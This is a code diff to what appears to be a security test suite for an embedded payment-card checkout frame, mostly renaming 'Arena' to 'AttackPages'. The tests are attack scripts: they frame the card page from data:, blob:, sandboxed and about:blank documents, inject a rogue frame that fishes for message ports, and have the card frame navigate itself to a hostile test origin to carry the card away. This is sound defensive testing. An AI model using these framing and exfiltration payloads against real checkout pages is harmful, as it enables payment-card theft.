@@ -1,10 +1,10 @@
 import { BREACH, type Attack, type Learned } from '../attack.ts'
-import type { Arena, Victim } from '../arena.ts'
+import type { AttackPages, Victim } from '../attack-pages.ts'
 
 const TAG = (ticket: string, proxy: string): string =>
   `<tender-checkout order="${ticket}" src="${proxy}"></tender-checkout><script src="${proxy}/v1/checkout.js"></script>`
 
-type Wrap = (inner: string, arena: Arena) => { readonly body: string; readonly origin: string }
+type Wrap = (inner: string, pages: AttackPages) => { readonly body: string; readonly origin: string }
 
 const quoted = (text: string): string => text.replaceAll('&', '&amp;').replaceAll('"', '&quot;')
 
@@ -12,16 +12,16 @@ const quoted = (text: string): string => text.replaceAll('&', '&amp;').replaceAl
 const framed = (name: string, does: string, wrap: Wrap, direct = ''): Attack => ({
   name,
   does,
-  async run(arena: Arena): Promise<Learned> {
-    const { proxy } = arena.town.addresses
-    const { ticket } = await arena.ticket()
-    const inner = arena.hostile.show({ body: direct ? direct.replace('PROXY', proxy) : TAG(ticket, proxy) })
-    const { body, origin } = wrap(inner, arena)
-    const context = await arena.browser.newContext()
+  async run(pages: AttackPages): Promise<Learned> {
+    const { proxy } = pages.stack.addresses
+    const { ticket } = await pages.ticket()
+    const inner = pages.hostile.show({ body: direct ? direct.replace('PROXY', proxy) : TAG(ticket, proxy) })
+    const { body, origin } = wrap(inner, pages)
+    const context = await pages.browser.newContext()
     try {
       const page = await context.newPage()
       const loaded = page.waitForResponse((answer) => new URL(answer.url()).pathname === '/card').catch(() => undefined)
-      await page.goto(origin + (body ? arena.hostile.show({ body }) : inner))
+      await page.goto(origin + (body ? pages.hostile.show({ body }) : inner))
       await Promise.race([loaded, page.waitForTimeout(4000)])
       // A refused frame ends at an address of the browser's own.
       for (let wait = 0; wait < 30 && page.frames().some((frame) => frame.url() === ''); wait += 1)
@@ -48,8 +48,8 @@ const FRAME = '<iframe src="PROXY/card"></iframe>'
 
 /** An empty document has the origin of whoever made it, and no address. */
 const inEmptyDocument = (of: 'unlisted' | 'listed', name: string): Attack =>
-  framed(name, 'an about:blank document frames the card document', (_, { hostile, town }) => ({
-    body: `<script>document.body.append(document.createElement('iframe')); frames[0].document.body.innerHTML = ${JSON.stringify(FRAME.replace('PROXY', town.addresses.proxy))}</script>`,
+  framed(name, 'an about:blank document frames the card document', (_, { hostile, stack }) => ({
+    body: `<script>document.body.append(document.createElement('iframe')); frames[0].document.body.innerHTML = ${JSON.stringify(FRAME.replace('PROXY', stack.addresses.proxy))}</script>`,
     origin: hostile[of],
   }))
 
@@ -71,17 +71,17 @@ export const framings: readonly Attack[] = [
     body: `<iframe src="${hostile.listed}${inner}" style="width:600px;height:600px"></iframe>`,
     origin: hostile.unlisted,
   })),
-  framed('data: parent', 'a data: document frames the card document', (_, { hostile, town }) => ({
-    body: `<iframe src="data:text/html,${encodeURIComponent(FRAME.replace('PROXY', town.addresses.proxy))}"></iframe>`,
+  framed('data: parent', 'a data: document frames the card document', (_, { hostile, stack }) => ({
+    body: `<iframe src="data:text/html,${encodeURIComponent(FRAME.replace('PROXY', stack.addresses.proxy))}"></iframe>`,
     origin: hostile.listed,
   })),
-  framed('parent of no origin', 'a sandboxed document frames the card document', (_, { hostile, town }) => ({
-    body: `<iframe sandbox="allow-scripts" srcdoc="${quoted(FRAME.replace('PROXY', town.addresses.proxy))}"></iframe>`,
+  framed('parent of no origin', 'a sandboxed document frames the card document', (_, { hostile, stack }) => ({
+    body: `<iframe sandbox="allow-scripts" srcdoc="${quoted(FRAME.replace('PROXY', stack.addresses.proxy))}"></iframe>`,
     origin: hostile.listed,
   })),
   inEmptyDocument('unlisted', 'about:blank of a stranger'),
-  framed('blob: of a stranger', 'a blob: document of a stranger frames the card document', (_, { hostile, town }) => ({
-    body: `<script>const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(new Blob([${JSON.stringify(FRAME.replace('PROXY', town.addresses.proxy))}], { type: 'text/html' })); document.body.append(frame)</script>`,
+  framed('blob: of a stranger', 'a blob: document of a stranger frames the card document', (_, { hostile, stack }) => ({
+    body: `<script>const frame = document.createElement('iframe'); frame.src = URL.createObjectURL(new Blob([${JSON.stringify(FRAME.replace('PROXY', stack.addresses.proxy))}], { type: 'text/html' })); document.body.append(frame)</script>`,
     origin: hostile.unlisted,
   })),
 ]
@@ -91,8 +91,8 @@ export const rogues: readonly Attack[] = [
   {
     name: 'greeting from a stranger’s frame',
     does: 'a frame of another origin greets the checkout, and hopes for a port',
-    async run(arena, victim: Victim) {
-      const rogue = arena.hostile.show({
+    async run(pages, victim: Victim) {
+      const rogue = pages.hostile.show({
         body: '',
         script: `globalThis.ports = []; addEventListener('message', ({ ports }) => globalThis.ports.push(...ports)); setInterval(() => parent.postMessage({ tender: 'tender:hello', nonce: 'stranger' }, '*'), 20)`,
       })
@@ -100,7 +100,7 @@ export const rogues: readonly Attack[] = [
       await victim.page.evaluate((src) => {
         document.body.append(Object.assign(document.createElement('iframe'), { src }))
         for (const nonce of ['own', null, {}, 1]) window.postMessage({ tender: 'tender:hello', nonce }, '*')
-      }, arena.hostile.unlisted + rogue)
+      }, pages.hostile.unlisted + rogue)
       const frame = await arrived
       await victim.page.waitForTimeout(500)
       const ports = await frame.evaluate('globalThis.ports.length')
@@ -110,22 +110,22 @@ export const rogues: readonly Attack[] = [
 ]
 
 /** Has the frame itself, as if its script had gone bad, carry the card away in an address; whether it arrived. */
-export async function carriesAway(arena: Arena, isGuarded: boolean): Promise<boolean> {
-  const { proxy } = arena.town.addresses
+export async function takesAway(pages: AttackPages, isGuarded: boolean): Promise<boolean> {
+  const { proxy } = pages.stack.addresses
   const rule = `<meta http-equiv="content-security-policy" content="frame-src ${proxy}">`
-  const victim = await arena.enter({ script: isGuarded ? `document.write(${JSON.stringify(rule)})` : '' })
+  const victim = await pages.enter({ script: isGuarded ? `document.write(${JSON.stringify(rule)})` : '' })
   const path = `/carried-${isGuarded ? 'guarded' : 'open'}`
   const frame = victim.page.frames().find((one) => one.url().endsWith('/card'))!
   const led = victim.page.waitForEvent('framenavigated', (one) => one === frame)
-  await frame.evaluate((to) => void location.assign(to), arena.hostile.unlisted + path)
+  await frame.evaluate((to) => void location.assign(to), pages.hostile.unlisted + path)
   await led
   await victim.context.close()
-  return arena.hostile.received.some((line) => line.includes(path))
+  return pages.hostile.received.some((line) => line.includes(path))
 }
 
 /** The one way out that the frame's own policy does not close, and the shop's does. */
 export const selfNavigation: Attack = {
   name: 'frame leads itself away',
   does: 'a frame gone bad carries the card away in an address, past a shop whose policy has frame-src',
-  run: async (arena) => ((await carriesAway(arena, true)) ? [`${BREACH}the frame went where frame-src forbids`] : []),
+  run: async (pages) => ((await takesAway(pages, true)) ? [`${BREACH}the frame went where frame-src forbids`] : []),
 }
